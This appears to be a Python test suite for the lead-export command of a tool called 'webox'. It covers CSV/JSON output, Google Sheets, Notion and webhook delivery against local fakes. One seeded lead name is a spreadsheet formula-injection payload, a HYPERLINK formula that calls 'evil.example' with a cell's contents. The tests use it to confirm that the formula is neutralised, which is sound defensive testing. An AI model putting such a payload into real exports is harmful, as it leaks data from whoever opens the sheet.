"""webox leads export through the real binary: files and stdout, Google Sheets,
Notion and signed webhooks against the loopback fakes in tests/fakes/fake_export.py,
incremental sync, and bad input."""
import base64
import csv
import io
import json
import os
import sqlite3
import subprocess
import time
import urllib.request

from harness import WeboxTestCase, free_port, main


def read(path):
    with open(path) as f:
        return f.read()

EMAIL = "webox-export@test-project.iam.gserviceaccount.com"
SECRET = "whsec_" + base64.b64encode(b"webox-export-test-secret-0123456789").decode()
SHEET = "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"
DATABASE = "0123456789abcdef0123456789abcdef"
DATA_SOURCE = "2f26ee68-df30-4251-aad4-8ddc420cba3d"  # the fake database's one data source

# Who the seeded leads are: two questions each (above the lead threshold),
# two with a phone number, two with an e-mail address.
PEOPLE = [
    ("1", "marie.dupont", "Marie Dupont", "Dispo ? 06 12 34 56 78"),
    ("2", "evil", '=HYPERLINK("http://evil.example/?"&A1)', "Prix ? 06 98 76 54 32"),
    ("3", "paul", 'Paul "PJ", Jr', "écrivez-moi: paul@exemple.fr"),
    ("4", "nophone", "-minus", "mail: zoe@exemple.fr merci"),
]


class ExportCase(WeboxTestCase):
    def setUp(self):
        super().setUp()
        now = int(time.time()) - 3600
        path = os.path.join(self.home, "seed.jsonl")
        with open(path, "w") as f:
            for i, (pid, user, name, text) in enumerate(PEOPLE):
                for n, t in enumerate([text, "Combien ? infos svp"]):
                    f.write(json.dumps({"platform": "instagram", "platform_id": f"c{i}-{n}", "kind": "comment",
                                        "person": {"id": pid, "username": user, "name": name}, "text": t,
                                        "timestamp": now - i - n, "post": "p1"}) + "\n")
        self.webox("scrape-interactions", "--from", path, check=0)
        self.env["WEBOX_RETRY_BASE_MS"] = "10"
        self.leads = [json.loads(l) for l in self.webox("leads", "list", "--jsonl", check=0).out.splitlines()]
        self.assertEqual(len(self.leads), len(PEOPLE), self.leads)

    def db(self):
        return sqlite3.connect(os.path.join(self.home, "data", "webox", "webox.db"))


class FileExportTest(ExportCase):
    def test_csv_is_rfc4180_guarded_and_keeps_e164(self):
        out = os.path.join(self.home, "leads.csv")
        self.webox("leads", "export", "-o", out, "--bom", check=0)
        with open(out, "rb") as f:
            raw = f.read()
        self.assertTrue(raw.startswith(b"\xef\xbb\xbf"))
        self.assertIn(b"\r\n", raw)
        rows = list(csv.DictReader(io.StringIO(raw[3:].decode("utf-8"), newline="")))
        self.assertEqual(len(rows), len(PEOPLE))
        by_user = {r["username"]: r for r in rows}
        self.assertEqual(by_user["marie.dupont"]["phones"], "+33612345678")  # E.164 stays as is
        self.assertEqual(by_user["evil"]["name"], "'" + PEOPLE[1][2])       # formula neutralised
        self.assertEqual(by_user["nophone"]["name"], "'-minus")
        self.assertEqual(by_user["paul"]["name"], PEOPLE[2][2])              # quotes and comma round-trip
        self.assertEqual(by_user["paul"]["emails"], "paul@exemple.fr")
        self.assertEqual(sorted(int(r["id"]) for r in rows), sorted(l["id"] for l in self.leads))
        # Written under a temporary name, then renamed: nothing else is left.
        self.assertEqual([f for f in os.listdir(self.home) if "leads.csv" in f], ["leads.csv"])
        self.assertEqual(os.stat(out).st_mode & 0o777, 0o600)

    def test_json_jsonl_fields_and_filters(self):
        r = self.webox("leads", "export", "--format", "jsonl", "--fields", "username,phone,score", check=0)
        lines = [json.loads(l) for l in r.out.splitlines()]
        self.assertEqual([list(l.keys()) for l in lines], [["username", "phone", "score"]] * len(PEOPLE))
        self.assertEqual({l["username"]: l["phone"] for l in lines}["marie.dupont"], "+33612345678")
        self.assertIsNone({l["username"]: l["phone"] for l in lines}["paul"])
        arr = self.webox("leads", "export", "--format", "json", "--has-phone", check=0).json()
        self.assertEqual(sorted(a["username"] for a in arr), ["evil", "marie.dupont"])
        self.assertEqual(arr[0]["phones"][0][:3], "+33")
        empty = self.webox("leads", "export", "--format", "json", "--min-score", "100", check=0).json()
        self.assertEqual(empty, [])

    def test_one_lead_shape_in_list_show_and_exports(self):
        # webox-leads(1), LEAD JSON: the same keys with the same JSON types in
        # `leads list --json`, `leads show --json` (plus its four detail keys),
        # and the JSON and JSONL exports with the default fields.
        self.webox("leads", "optout", "@paul", "--reason", "test", check=0)
        listed = {l["id"]: l for l in self.webox("leads", "list", "--json", check=0).json()}
        exported = {l["id"]: l for l in self.webox("leads", "export", "--format", "json", check=0).json()}
        lines = {l["id"]: l for l in map(json.loads, self.webox("leads", "export", "--format", "jsonl", check=0).out.splitlines())}
        self.assertEqual(set(listed), set(exported))
        self.assertEqual(set(listed), set(lines))

        def shape(lead):
            return {k: type(v).__name__ for k, v in lead.items()}

        for lead_id, lead in listed.items():
            shown = self.webox("leads", "show", str(lead_id), "--json", check=0).json()
            details = {"contacts", "recent_interactions", "events", "optout"}
            self.assertEqual(set(shown) - set(lead), details)
            core = {k: v for k, v in shown.items() if k not in details}
            self.assertEqual(set(lead), set(core))
            self.assertEqual(set(lead), set(exported[lead_id]))
            self.assertEqual(set(lead), set(lines[lead_id]))
            self.assertEqual(shape(lead), shape(core))
            self.assertEqual(shape(lead), shape(exported[lead_id]))
            self.assertEqual(shape(lead), shape(lines[lead_id]))
            self.assertEqual(lead, core)
            self.assertEqual(lead, exported[lead_id])
            self.assertEqual(lead, lines[lead_id])
        self.assertEqual({l["username"]: l["opted_out"] for l in exported.values()},
                         {"marie.dupont": False, "evil": False, "paul": True, "nophone": False})

    def test_bad_input_exits_2_and_writes_nothing(self):
        out = os.path.join(self.home, "x.csv")
        cases = [
            (["--fields", "username,shoe_size"], "unknown field 'shoe_size'"),
            (["--format", "xlsx"], "not csv, json or jsonl"),
            (["--to", "ftp:server"], "unknown destination 'ftp'"),
            (["--to", f"sheets:{SHEET}/Leads!1A"], "not a range in A1 notation"),
            (["--to", f"sheets:{SHEET}/"], "give the range"),
            (["--to", "notion:not-an-id"], "not a database id"),
            (["--to", "webhook:mailto:a@b"], "not an http"),
            (["--since-last"], "--since-last needs"),
            (["--map", "phone=Phone"], "--map applies"),
            (["--to", "webhook:http://127.0.0.1:9/h", "--format", "json"], "--format applies"),
        ]
        for args, message in cases:
            r = self.webox("leads", "export", "-o", out, *args, check=2) if "--to" not in args and "--since-last" not in args \
                else self.webox("leads", "export", *args, check=2)
            self.assertIn(message, r.err, args)
            self.assertFalse(os.path.exists(out), args)
        self.assertEqual([f for f in os.listdir(self.home) if f.startswith(".x.csv")], [])

    def test_since_last_for_a_file(self):
        out = os.path.join(self.home, "inc.jsonl")
        first = self.webox("leads", "export", "--format", "jsonl", "-o", out, "--since-last", "--json", check=0).json()
        self.assertEqual(first["sent"], len(PEOPLE))
        self.assertTrue(first["state_advanced"])
        again = self.webox("leads", "export", "--format", "jsonl", "-o", out, "--since-last", "--json", check=0).json()
        self.assertEqual(again["sent"], 0)
        time.sleep(0.01)
        self.webox("leads", "set-status", "@paul", "contacted", check=0)
        third = self.webox("leads", "export", "--format", "jsonl", "-o", out, "--since-last", "--json", check=0).json()
        self.assertEqual(third["sent"], 1)
        self.assertEqual(json.loads(read(out))["username"], "paul")


class RemoteCase(ExportCase):
    def setUp(self):
        super().setUp()
        key = os.path.join(self.home, "sa.pem")
        pub = os.path.join(self.home, "sa.pub.pem")
        subprocess.run(["openssl", "genpkey", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:2048", "-out", key],
                       check=True, capture_output=True)
        subprocess.run(["openssl", "pkey", "-in", key, "-pubout", "-out", pub], check=True, capture_output=True)
        self.fake = self.start_fake("fake_export.py", pub, EMAIL, SECRET)
        self.key_file = os.path.join(self.home, "service-account.json")
        with open(self.key_file, "w") as f:
            json.dump({"type": "service_account", "project_id": "test-project", "private_key_id": "k1",
                       "private_key": read(key), "client_email": EMAIL,
                       "token_uri": self.fake.url + "/token"}, f)
        os.remove(key)
        self.env.update({"GOOGLE_APPLICATION_CREDENTIALS": self.key_file, "SHEETS_BASE_URL": self.fake.url,
                         "NOTION_BASE_URL": self.fake.url, "NOTION_TOKEN": "secret_test",
                         "WEBOX_WEBHOOK_SECRET": SECRET})

    def control(self, **doc):
        self.fake.control(**doc)

    def state(self):
        with urllib.request.urlopen(self.fake.url + "/__state", timeout=5) as r:
            return json.loads(r.read())

    def calls(self, prefix):
        return [r for r in self.fake.requests() if r["path"].startswith(prefix)]


class SheetsTest(RemoteCase):
    def test_append_with_a_service_account_token_cached_and_429_backed_off(self):
        self.control(sheets_429=1)
        to = f"sheets:{SHEET}/Leads!A1"
        r = self.webox("leads", "export", "--to", to, "--batch", "2", "--fields", "id,username,phones,score", "--json", check=0)
        self.assertEqual(r.json()["sent"], len(PEOPLE))
        rows = self.state()["sheets"][SHEET]
        self.assertEqual(rows[0], ["id", "username", "phones", "score"])  # an empty sheet gets a header
        self.assertEqual(len(rows), 1 + len(PEOPLE))
        self.assertIn([self.leads[0]["id"], self.leads[0]["username"], " ".join(self.leads[0]["phones"]),
                       self.leads[0]["score"]], rows)
        self.assertEqual(self.state()["tokens_issued"], 1)  # one exchange for every batch
        calls = self.calls("/v4/spreadsheets/")
        reads = [c for c in calls if c["method"] == "GET"]
        appends = [c for c in calls if c["path"].endswith(":append")]
        self.assertEqual(len(reads), 1 + 1)  # the id column, read once; the first answer was a 429
        self.assertEqual(len(appends), 2)  # 4 leads in batches of 2
        self.assertEqual(len(calls), len(reads) + len(appends))
        self.assertEqual(reads[0]["path"], f"/v4/spreadsheets/{SHEET}/values/Leads!A:A")
        self.assertEqual(appends[0]["path"], f"/v4/spreadsheets/{SHEET}/values/Leads!A1:append")
        self.assertEqual(appends[0]["query"]["valueInputOption"], "RAW")
        # No secret reached the output or the database.
        token = self.calls("/v4/")[0]["headers"]["authorization"][7:]
        self.assertNotIn(token, r.out + r.err)
        dump = "\n".join(self.db().iterdump())
        self.assertNotIn(token, dump)
        self.assertNotIn("PRIVATE KEY", dump)
        # Incremental: nothing new, nothing sent.
        self.control(reset_requests=True)
        again = self.webox("leads", "export", "--to", to, "--since-last", "--json", check=0).json()
        self.assertEqual(again["sent"], 0)
        self.assertEqual(self.calls("/v4/"), [])

    def sheet_rows(self):
        return self.state()["sheets"][SHEET]

    def lead_id(self, username):
        return next(l["id"] for l in self.leads if l["username"] == username)

    def test_header_once_then_a_changed_lead_rewritten_in_place(self):
        to = f"sheets:{SHEET}/Leads!A1"
        first = self.webox("leads", "export", "--to", to, "--since-last", "--json", check=0).json()
        self.assertEqual(first["sent"], len(PEOPLE))
        header = self.webox("leads", "export", "--format", "csv", "--limit", "1", check=0).out.splitlines()[0]
        rows = self.sheet_rows()
        self.assertEqual(rows[0], header.split(","))  # the CSV header's names, in order
        self.assertEqual(sorted(r[0] for r in rows[1:]), sorted(l["id"] for l in self.leads))
        status = rows[0].index("status")
        read = next(c for c in self.calls("/v4/") if c["method"] == "GET")
        self.assertEqual(read["path"], f"/v4/spreadsheets/{SHEET}/values/Leads!A:A")
        self.assertEqual(read["query"], {"majorDimension": "COLUMNS", "valueRenderOption": "UNFORMATTED_VALUE"})

        paul = self.lead_id("paul")
        time.sleep(0.01)
        self.webox("leads", "set-status", str(paul), "contacted", check=0)
        self.control(reset_requests=True)
        again = self.webox("leads", "export", "--to", to, "--since-last", "--json", check=0).json()
        self.assertEqual((again["sent"], again["rejected"], again["state_advanced"]), (1, [], True))
        rows = self.sheet_rows()
        self.assertEqual(len(rows), 1 + len(PEOPLE))  # no duplicate, no second header
        self.assertEqual([r[0] for r in rows].count(paul), 1)
        self.assertEqual(next(r for r in rows if r[0] == paul)[status], "contacted")
        self.assertEqual(sum(1 for r in rows[1:] if r[status] == "new"), len(PEOPLE) - 1)
        updates = [c for c in self.calls("/v4/") if c["path"].endswith(":batchUpdate")]
        self.assertEqual(len(updates), 1)
        self.assertEqual([c for c in self.calls("/v4/") if c["path"].endswith(":append")], [])
        body = json.loads(updates[0]["body"])
        row = 1 + [r[0] for r in rows].index(paul)
        self.assertEqual(body["valueInputOption"], "RAW")
        last = chr(ord("A") + len(header.split(",")) - 1)  # the default fields: the lead record (15 since it gained person_id, ...)
        self.assertEqual([d["range"] for d in body["data"]], [f"Leads!A{row}:{last}{row}"])

        # A full export rewrites every row in one request per batch.
        self.control(reset_requests=True)
        full = self.webox("leads", "export", "--to", to, "--batch", "3", "--json", check=0).json()
        self.assertEqual(full["sent"], len(PEOPLE))
        self.assertEqual(len(self.sheet_rows()), 1 + len(PEOPLE))
        self.assertEqual([c["method"] + " " + c["path"].rsplit("/", 1)[1] for c in self.calls("/v4/")],
                         ["GET Leads!A:A", "POST values:batchUpdate", "POST values:batchUpdate"])

    def test_id_elsewhere_and_rows_duplicated_by_older_exports(self):
        # The sheet holds a title row above the destination, and paul twice
        # (an export made before rows were updated in place).
        paul, marie = self.lead_id("paul"), self.lead_id("marie.dupont")
        title = ["Leads from webox"]
        self.control(sheets={SHEET: [title, [], ["", "username", "id", "status"], ["", "paul", paul, "new"],
                                     ["", "paul", str(paul), "new"]]})
        to = f"sheets:{SHEET}/'My leads'!B3"
        r = self.webox("leads", "export", "--to", to, "--fields", "username,id,status", "--batch", "2", "--json", check=0)
        self.assertEqual(r.json()["sent"], len(PEOPLE))
        rows = self.sheet_rows()
        self.assertEqual(rows[:3], [title, [], ["", "username", "id", "status"]])  # no second header
        self.assertEqual(len(rows), 5 + len(PEOPLE) - 1)
        self.assertEqual(rows[3:5], [["", "paul", paul, "new"]] * 2)  # both copies rewritten
        self.assertEqual(sorted(row[2] for row in rows[5:]), sorted(l["id"] for l in self.leads if l["id"] != paul))
        calls = self.calls("/v4/")
        self.assertEqual(calls[0]["path"], f"/v4/spreadsheets/{SHEET}/values/'My leads'!C3:C")
        update = json.loads(next(c for c in calls if c["path"].endswith(":batchUpdate"))["body"])
        self.assertEqual([d["range"] for d in update["data"]], ["'My leads'!B4:D4", "'My leads'!B5:D5"])
        # Rows appended by this export are found again by the next one.
        self.webox("leads", "set-status", str(marie), "converted", check=0)
        self.control(reset_requests=True)
        self.webox("leads", "export", "--to", to, "--fields", "username,id,status", check=0)
        rows = self.sheet_rows()
        self.assertEqual(len(rows), 5 + len(PEOPLE) - 1)
        self.assertEqual(next(row for row in rows if row[2:3] == [marie])[3], "converted")
        self.assertEqual([c for c in self.calls("/v4/") if c["path"].endswith(":append")], [])

    def test_without_an_id_field_every_export_appends(self):
        to = f"sheets:{SHEET}/Leads"
        self.webox("leads", "export", "--to", to, "--fields", "username,status", check=0)
        self.webox("leads", "export", "--to", to, "--fields", "username,status", check=0)
        rows = self.sheet_rows()
        self.assertEqual(rows[0], ["username", "status"])
        self.assertEqual(len(rows), 1 + 2 * len(PEOPLE))  # nothing to match a row by
        self.assertEqual(rows.count(["username", "status"]), 1)
        calls = self.calls("/v4/")
        self.assertEqual([c["path"].rsplit("/", 1)[1] for c in calls if c["method"] == "GET"], ["Leads!A:A"] * 2)
        self.assertEqual([c for c in calls if c["path"].endswith(":batchUpdate")], [])
        # A sheet with something in its first column never gets a header.
        other = "1ZyXwVuTsRqPoNmLkJiHgFeDcBa9876543210"
        self.control(sheets={other: [["notes kept by hand"]]})
        self.webox("leads", "export", "--to", f"sheets:{other}/Leads", "--fields", "username", check=0)
        self.assertEqual(self.state()["sheets"][other][0], ["notes kept by hand"])
        self.assertNotIn(["username"], self.state()["sheets"][other])

    def test_refused_batch_update_refuses_those_leads_like_a_refused_append(self):
        to = f"sheets:{SHEET}/Leads!A1"
        self.webox("leads", "export", "--to", to, "--since-last", check=0)
        paul = self.lead_id("paul")
        time.sleep(0.01)
        self.webox("leads", "set-status", str(paul), "contacted", check=0)
        self.control(sheets_batch_update_400=True)
        r = self.webox("leads", "export", "--to", to, "--since-last", "--json", check=3)
        summary = r.json()
        self.assertEqual([x["lead"] for x in summary["rejected"]], [paul])
        self.assertIn("INVALID_ARGUMENT", summary["rejected"][0]["message"])
        self.assertIn("@paul", r.err)
        self.assertFalse(summary["state_advanced"])
        status = self.sheet_rows()[0].index("status")
        self.assertEqual(next(row for row in self.sheet_rows() if row[0] == paul)[status], "new")
        # Fixed: the lead goes again (the state did not move) and lands in place.
        self.control(sheets_batch_update_400=False)
        self.assertEqual(self.webox("leads", "export", "--to", to, "--since-last", "--json", check=0).json()["sent"], 1)
        self.assertEqual(next(row for row in self.sheet_rows() if row[0] == paul)[status], "contacted")
        self.assertEqual(len(self.sheet_rows()), 1 + len(PEOPLE))

    def test_a_sheet_that_cannot_be_read_refuses_every_lead_and_writes_nothing(self):
        self.control(sheets_missing=["Archive"])  # no such sheet in the spreadsheet
        r = self.webox("leads", "export", "--to", f"sheets:{SHEET}/Archive!A1", "--batch", "2", "--json", check=3)
        self.assertEqual(sorted(x["lead"] for x in r.json()["rejected"]), sorted(l["id"] for l in self.leads))
        self.assertIn("reading Archive!A:A to find the leads already there: INVALID_ARGUMENT: Unable to parse range", r.err)
        self.assertEqual([c["method"] for c in self.calls("/v4/")], ["GET"])
        self.assertNotIn(SHEET, self.state()["sheets"])

    def test_a_sheet_not_shared_says_with_whom_to_share_it(self):
        self.control(sheets_403=True)
        r = self.webox("leads", "export", "--to", f"sheets:{SHEET}/Leads", check=4)
        self.assertIn("share the sheet with " + EMAIL, r.err)
        self.assertIn("PERMISSION_DENIED: The caller does not have permission", r.err)
        self.assertNotIn("{", r.err)  # no raw JSON
        self.assertEqual(len(r.err.strip().splitlines()), 1, r.err)

    def test_refused_grant_and_permission_exit_4(self):
        self.control(invalid_grant=True)
        r = self.webox("leads", "export", "--to", f"sheets:{SHEET}/Leads", check=4)
        self.assertIn("invalid_grant", r.err)
        self.control(invalid_grant=False, sheets_403=True)
        r = self.webox("leads", "export", "--to", f"sheets:{SHEET}/Leads", check=4)
        self.assertIn("PERMISSION_DENIED", r.err)
        # A key signed by another key pair is refused by the token endpoint.
        other = os.path.join(self.home, "other.pem")
        subprocess.run(["openssl", "genpkey", "-algorithm", "RSA", "-out", other], check=True, capture_output=True)
        doc = json.loads(read(self.key_file))
        doc["private_key"] = read(other)
        with open(self.key_file, "w") as f:
            json.dump(doc, f)
        r = self.webox("leads", "export", "--to", f"sheets:{SHEET}/Leads", check=4)
        self.assertIn("Invalid JWT Signature", r.err)
        self.webox("leads", "export", "--to", f"sheets:{SHEET}/Leads", env={"GOOGLE_APPLICATION_CREDENTIALS": ""}, check=4)


class NotionTest(RemoteCase):
    def test_pages_rate_limit_wrong_type_then_fixed_mapping_updates_pages(self):
        # "Phone" is a text property in this database: leads with a phone are
        # refused, the others are created, and the state does not advance.
        schema = {"Name": "title", "Score": "number", "Status": "select", "Phone": "rich_text", "Email": "email"}
        self.control(schema=schema, notion_429=1)
        to = f"notion:{DATABASE}"
        mapping = "username=Name,score=Score,status=Status,phone=Phone,email=Email"
        r = self.webox("leads", "export", "--to", to, "--map", mapping, "--since-last", "--json", check=3)
        summary = r.json()
        refused = {x["lead"] for x in summary["rejected"]}
        with_phone = {l["id"] for l in self.leads if l["phones"]}
        self.assertEqual(refused, with_phone)
        self.assertIn("Phone is expected to be rich_text", r.err)
        self.assertIn("@marie.dupont", r.err)
        self.assertFalse(summary["state_advanced"])
        pages = self.state()["pages"]
        self.assertEqual(len(pages), len(PEOPLE) - len(with_phone))
        page = next(p for p in pages.values() if p["Name"]["title"][0]["text"]["content"] == "paul")
        self.assertEqual(page["Email"], {"email": "paul@exemple.fr"})
        self.assertEqual(page["Status"], {"select": {"name": "new"}})
        for req in self.calls("/v1/"):
            self.assertEqual(req["headers"]["notion-version"], "2025-09-03")
        # The database's one data source was found first, and holds the pages.
        self.assertEqual(self.calls("/v1/")[0]["path"], f"/v1/databases/{DATABASE}")
        self.assertEqual({p["data_source_id"] for p in self.state()["page_parents"].values()}, {DATA_SOURCE})
        self.assertEqual(self.state()["notion_violations"], 0)

        # Fixed mapping: everything is sent again (the state did not move);
        # leads already created update their page instead of adding one.
        self.control(reset_requests=True)
        r = self.webox("leads", "export", "--to", to, "--map", mapping.replace("Phone", "Phone:rich_text"), "--since-last",
                       "--json", check=0)
        self.assertEqual(r.json()["sent"], len(PEOPLE))
        self.assertEqual(len(self.state()["pages"]), len(PEOPLE))
        methods = sorted(req["method"] for req in self.calls("/v1/pages"))
        self.assertEqual(methods.count("PATCH"), len(PEOPLE) - len(with_phone))
        marie = next(p for p in self.state()["pages"].values() if p["Name"]["title"][0]["text"]["content"] == "marie.dupont")
        self.assertEqual(marie["Phone"]["rich_text"][0]["text"]["content"], "+33612345678")

    def test_a_database_of_several_data_sources_needs_the_one_named(self):
        other = "9d3f6a1e-5b2c-4e8f-a7d6-0c1b2a3f4e5d"
        self.control(data_sources=[{"id": DATA_SOURCE, "name": "Leads"}, {"id": other, "name": "Archive"}])
        r = self.webox("leads", "export", "--to", f"notion:{DATABASE}", check=2)
        self.assertIn("holds 2 data sources", r.err)
        self.assertIn(other + "  Archive", r.err)
        self.assertEqual(self.calls("/v1/pages"), [])
        # Its own id (from Notion's "Copy data source ID"): not a database, a data source.
        r = self.webox("leads", "export", "--to", f"notion:{other}", "--json", check=0)
        self.assertEqual(r.json()["sent"], len(PEOPLE))
        self.assertEqual({p["data_source_id"] for p in self.state()["page_parents"].values()}, {other})
        # An id nothing is shared under: exit 4 before any page.
        self.control(reset_requests=True)
        r = self.webox("leads", "export", "--to", "notion:" + "f" * 32, check=4)
        self.assertIn("shared with this integration", r.err)
        self.assertEqual(self.calls("/v1/pages"), [])

    def test_an_older_notion_version_creates_pages_under_the_database(self):
        self.write_config('export:\n  notion:\n    version: "2022-06-28"\n')
        # That version cannot add a page to a database of several data sources: each lead is refused.
        self.control(data_sources=[{"id": DATA_SOURCE, "name": "Leads"}, {"id": "x", "name": "Archive"}])
        r = self.webox("leads", "export", "--to", f"notion:{DATABASE}", "--json", check=3)
        self.assertEqual(len(r.json()["rejected"]), len(PEOPLE))
        self.assertIn("multiple data sources", r.err)
        self.control(data_sources=[{"id": DATA_SOURCE, "name": "Leads"}])
        r = self.webox("leads", "export", "--to", f"notion:{DATABASE}", "--json", check=0)
        self.assertEqual(r.json()["sent"], len(PEOPLE))
        self.assertEqual(self.calls("/v1/databases/"), [])
        self.assertEqual({p.get("database_id") for p in self.state()["page_parents"].values()}, {DATABASE})

    def test_missing_token_exits_4(self):
        r = self.webox("leads", "export", "--to", f"notion:{DATABASE}", env={"NOTION_TOKEN": ""}, check=4)
        self.assertIn("NOTION_TOKEN", r.err)
        r = self.webox("leads", "export", "--to", f"notion:{DATABASE}", env={"NOTION_TOKEN": "wrong"}, check=4)


class WebhookTest(RemoteCase):
    def test_signed_batches_retried_with_the_same_id(self):
        self.control(webhook_script=[500])
        r = self.webox("leads", "export", "--to", "webhook:" + self.fake.url + "/hook", "--batch", "3", "--json", check=0)
        self.assertEqual(r.json()["sent"], len(PEOPLE))
        deliveries = self.state()["deliveries"]
        self.assertEqual([d["status"] for d in deliveries], [500, 204, 204])
        self.assertEqual(deliveries[0]["id"], deliveries[1]["id"])
        self.assertNotEqual(deliveries[1]["id"], deliveries[2]["id"])
        sent = [lead for d in deliveries[1:] for lead in json.loads(d["body"])["data"]]
        self.assertEqual(sorted(l["id"] for l in sent), sorted(l["id"] for l in self.leads))
        self.assertEqual(json.loads(deliveries[1]["body"])["type"], "leads.exported")
        marie = next(l for l in sent if l["username"] == "marie.dupont")
        self.assertEqual(marie["phones"], ["+33612345678"])  # JSON lists in JSON bodies
        self.assertNotIn(SECRET, r.out + r.err)
        # The secret may live in the key store instead of the environment.
        self.webox("keys", "set", "WEBOX_WEBHOOK_SECRET", stdin=SECRET + "\n", check=0)
        self.control(reset_requests=True)
        r = self.webox("leads", "export", "--to", "webhook:" + self.fake.url + "/hook", "--json",
                       env={"WEBOX_WEBHOOK_SECRET": ""}, check=0)
        self.assertEqual(r.json()["sent"], len(PEOPLE))
        self.assertEqual(self.state()["deliveries"][-1]["status"], 204)

    def test_failed_export_does_not_advance_and_bad_secrets(self):
        hook = "webhook:" + self.fake.url + "/hook"
        self.control(webhook_script=[503] * 10)
        self.webox("leads", "export", "--to", hook, "--since-last", env={"WEBOX_RETRIES": "2"}, check=75)
        self.control(webhook_script=[])
        r = self.webox("leads", "export", "--to", hook, "--since-last", "--json", check=0)
        self.assertEqual(r.json()["sent"], len(PEOPLE))
        # A 400 is the receiver's verdict: not retried, leads listed, exit 3.
        self.webox("leads", "set-status", "@paul", "contacted", check=0)
        self.control(webhook_script=[400])
        r = self.webox("leads", "export", "--to", hook, "--since-last", "--json", check=3)
        self.assertEqual([x["lead"] for x in r.json()["rejected"]], [l["id"] for l in self.leads if l["username"] == "paul"])
        self.assertEqual([d["status"] for d in self.state()["deliveries"]][-1], 400)
        # Unsigned is refused before sending; a wrong secret is refused by the receiver.
        self.webox("leads", "export", "--to", hook, env={"WEBOX_WEBHOOK_SECRET": ""}, check=4)
        self.webox("leads", "export", "--to", hook, env={"WEBOX_WEBHOOK_SECRET": "plain"}, check=4)
        other = "whsec_" + base64.b64encode(b"another-secret-entirely-000000").decode()
        self.webox("leads", "export", "--to", hook, env={"WEBOX_WEBHOOK_SECRET": other}, check=4)
        # Unreachable: exit 75.
        self.webox("leads", "export", "--to", f"webhook:http://127.0.0.1:{free_port()}/hook",
                   env={"WEBOX_RETRIES": "0"}, check=75)


if __name__ == "__main__":
    main()
